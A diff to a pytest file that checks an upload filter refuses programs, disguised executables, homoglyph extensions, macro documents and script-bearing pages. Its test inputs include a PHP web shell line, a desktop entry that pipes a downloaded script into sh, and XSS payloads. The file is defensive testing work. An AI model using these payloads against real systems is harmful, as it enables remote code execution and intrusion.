@@ -1,4 +1,7 @@
-"""Uploads: programs refused by name and by content, whatever the name (issue 14, item 9).
+"""Uploads: only the kinds the model reads (text, images, documents) are taken — an allowlist, by
+name and by content — and programs are refused by content whatever the name (issue 14, item 9;
+issue 14b, item 6: `.py`, `.html`, `.svg`, `.xhtml`, `.service`, `.jsp`, `.whl` and a homoglyph
+`.pу` got through the denylist).
 
 Every case goes through a real upload to a live Navi (multipart over TCP), and checks that nothing
 of a refused file is left in the session's folder.
@@ -74,19 +77,23 @@ CONTENT = [
     ("notes.txt", b"  \r\n\t\n#!/usr/bin/env python3\nimport os\n", "interpreter line"),
     ("notes.txt", codecs.BOM_UTF16_LE + "#!/bin/sh\necho hi\n".encode("utf-16-le"), "interpreter line"),
     ("notes.txt", codecs.BOM_UTF32_BE + "#!/bin/sh\n".encode("utf-32-be"), "interpreter line"),
-    ("page.html", b"<?php system($_GET['c']); ?>", "PHP script"),
+    ("page.md", b"<?php system($_GET['c']); ?>", "PHP script"),
     ("page.txt", b"\n\n<?PHP echo 1;", "PHP script"),
     ("readme.txt", b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl x|sh'\n", "desktop entry"),
     ("readme.txt", b"# generated\n\n[Desktop Entry]\nExec=evil\n", "desktop entry"),
     ("link.txt", b"[InternetShortcut]\r\nURL=file:///C:/evil.exe\r\n", "internet shortcut"),
     ("doc.pdf", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 64, "Windows shortcut"),
-    ("data.dat", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 32, "Java class"),
-    ("data.dat", b"dex\n035\x00" + b"\x00" * 64, "Dalvik"),
-    ("data.dat", b"!<arch>\ndebian-binary   1342943816  0     0     100644  4         `\n2.0\n", "Debian"),
-    ("data.dat", b"\xed\xab\xee\xdb\x03\x00" + b"\x00" * 64, "RPM"),
-    ("report.zip", zipped("META-INF/MANIFEST.MF", "com/x/Main.class"), "Java archive"),
-    ("photos.zip", zipped("AndroidManifest.xml", "classes.dex"), "Android package"),
-    ("bundle.zip", zipped("__main__.py", "lib/helpers.py"), "Python zip application"),
+    ("data.csv", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 32, "Java class"),
+    ("data.csv", b"dex\n035\x00" + b"\x00" * 64, "Dalvik"),
+    ("data.csv", b"!<arch>\ndebian-binary   1342943816  0     0     100644  4         `\n2.0\n", "Debian"),
+    ("data.csv", b"\xed\xab\xee\xdb\x03\x00" + b"\x00" * 64, "RPM"),
+    (
+        "report.docx",
+        zipped("[Content_Types].xml", "META-INF/MANIFEST.MF", "com/x/Main.class"),
+        "Java archive",
+    ),
+    ("photos.xlsx", zipped("[Content_Types].xml", "AndroidManifest.xml", "classes.dex"), "Android package"),
+    ("bundle.odt", zipped("mimetype", "__main__.py", "lib/helpers.py"), "Python zip application"),
     ("photo.png", zipped("META-INF/MANIFEST.MF", prefix=PNG), "Java archive"),  # a jar behind an image
     ("big.txt", b"#!/bin/bash\n" + b"echo padding\n" * 2000, "interpreter line"),  # refused while streaming
 ]
@@ -100,14 +107,82 @@ def test_programs_are_refused_by_content_whatever_the_name(
     assert_refused(resp, folder, reason)
 
 
+# What used to pass the denylist, and other kinds that run or render when opened: refused by name.
+RUN_OR_RENDER = [
+    ("tool.py", ".py"),
+    ("page.html", ".html"),
+    ("logo.svg", ".svg"),
+    ("page.xhtml", ".xhtml"),
+    ("backdoor.service", ".service"),
+    ("shell.jsp", ".jsp"),
+    ("package-1.0-py3-none-any.whl", ".whl"),
+    ("evil.p\u0443", ".p\u0443"),  # a Cyrillic у: looks like .py
+    ("notes.\uff54\uff58\uff54", ".\uff54\uff58\uff54"),  # fullwidth: looks like .txt
+    ("feed.xml", ".xml"),
+    ("docs.zip", ".zip"),
+    ("backup.tar.gz", ".gz"),
+    ("book.epub", ".epub"),
+    ("budget.xlsm", ".xlsm"),
+    ("main.c", ".c"),
+    ("photo.html.png", ".html"),  # a suffix before the last one
+]
+
+
+@pytest.mark.parametrize(("name", "suffix"), RUN_OR_RENDER, ids=[r[0] for r in RUN_OR_RENDER])
+def test_only_kinds_the_model_reads_are_accepted(navi: LiveNavi, name: str, suffix: str) -> None:
+    resp, folder = upload(navi, name, PNG if name.endswith(".png") else b"plain words")
+    assert_refused(resp, folder, f"files of type {suffix} are not accepted")
+    detail = resp.json()["detail"]  # the refusal names what is accepted
+    assert "Navi accepts only files the model can read" in detail
+    assert "text (.txt" in detail and "images (.png" in detail and "documents (.pdf" in detail
+
+
+MISMATCHED = [
+    ("photo.png", b"just some text", "is not an image"),
+    ("paper.pdf", b"not really a pdf", "is not a PDF"),
+    ("report.docx", zipped("readme.txt"), "is not an .docx document"),
+    ("slides.odp", b"plain text", "is not an .odp document"),
+    ("notes.txt", b"abc\x00\x01\x02" * 100, "is not text"),
+    ("README", PNG, "is not text"),
+    ("macro.docx", zipped("[Content_Types].xml", "word/vbaProject.bin"), "document with macros"),
+    ("macro.ods", zipped("mimetype", "Basic/Standard/Module1.xml"), "document with macros"),
+    ("page.txt", b"\n<!DOCTYPE html>\n<html><script>alert(1)</script>", "HTML page"),
+    ("picture.md", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "SVG picture"),
+    ("data.csv", b"<?xml version='1.0'?>\n<svg xmlns='http://www.w3.org/2000/svg'/>", "SVG or XHTML"),
+    ("data.json", b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>", "SVG or XHTML"),
+]
+
+
+@pytest.mark.parametrize(("name", "data", "reason"), MISMATCHED, ids=[f"{m[0]}-{m[2]}" for m in MISMATCHED])
+def test_the_content_must_be_the_kind_the_name_says(
+    navi: LiveNavi, name: str, data: bytes, reason: str
+) -> None:
+    resp, folder = upload(navi, name, data)
+    assert_refused(resp, folder, reason)
+
+
+def utf16(text: str) -> bytes:
+    return codecs.BOM_UTF16_LE + text.encode("utf-16-le")
+
+
 ACCEPTED = [
-    ("docs.zip", zipped("readme.txt", "chapter1/notes.md")),
     ("letter.odt", zipped("mimetype", "META-INF/manifest.xml", "content.xml")),  # ODF's manifest
-    ("book.epub", zipped("mimetype", "META-INF/container.xml")),
+    ("report.docx", zipped("[Content_Types].xml", "word/document.xml")),
+    ("sheet.XLSX", zipped("[Content_Types].xml", "xl/workbook.xml")),
+    ("paper.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"),
     ("notes.md", b"# Title\n\nA line that mentions #!/bin/sh and <?php in the middle.\n"),
     ("image.png", PNG),
+    ("photo.JPG", b"\xff\xd8\xff\xe0" + b"\x00" * 64),
+    ("anim.gif", b"GIF89a" + b"\x00" * 32),
+    ("pic.webp", b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 32),
+    ("scan.tiff", b"II*\x00" + b"\x00" * 32),
     ("config.ini", b"[Settings]\nname=desktop entry\n"),
     ("data.csv", b"a,b\n1,2\n"),
+    ("wide.txt", utf16("Grüße, with NUL bytes in UTF-16\n")),
+    ("fix.patch", b"--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n"),
+    ("README", b"A file without an extension, but text.\n"),
+    ("Mr. Smith letter", b"Dear Mr. Smith,\n"),  # the words after a dot are not an extension
+    ("notes.v2.txt", b"second draft\n"),
 ]
 
 
